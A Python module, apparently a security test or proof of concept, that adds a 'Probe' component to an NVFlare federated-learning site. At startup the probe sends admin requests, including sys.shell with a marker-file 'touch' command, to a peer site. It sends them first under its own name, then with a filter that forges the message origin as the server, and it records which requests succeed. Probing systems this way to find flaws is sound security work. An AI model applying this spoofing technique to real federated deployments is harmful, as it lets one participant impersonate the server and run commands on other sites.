"""Attacking component of a site: sends commands to another site in its own name and in the server's."""

from __future__ import annotations

import json
import os
import threading
import time

from nvflare.apis.event_type import EventType
from nvflare.apis.fl_component import FLComponent
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.private.admin_defs import Message
from nvflare.private.defs import new_cell_message


class Probe(FLComponent):
    def handle_event(self, event_type, fl_ctx):
        if event_type == EventType.SYSTEM_START:
            threading.Thread(target=self.work, args=(fl_ctx.get_engine(),), daemon=True).start()

    def work(self, engine):
        time.sleep(1)  # until it is registered
        cell, outcomes = engine.get_cell(), {}

        def lie(message):
            if message.get_header(MessageHeaderKey.DESTINATION) == "north":
                message.set_header(MessageHeaderKey.ORIGIN, "server")

        for origin in ("its own", "forged"):
            if origin == "forged":
                cell.core_cell.add_outgoing_request_filter("*", "*", lie)
            for topic in ("sys.report_version", "sys.shell", "sys.report_env"):
                request = new_cell_message({}, Message(topic, "touch " + os.environ["PROBE"] + ".ran"))
                reply = cell.send_request(target="north", channel="admin", topic=topic, request=request, timeout=0.5)
                outcomes[f"{origin}: {topic}"] = reply.get_header(MessageHeaderKey.RETURN_CODE, "")
        with open(os.environ["PROBE"] + ".part", "w") as file:
            json.dump(outcomes, file)
        os.replace(os.environ["PROBE"] + ".part", os.environ["PROBE"])
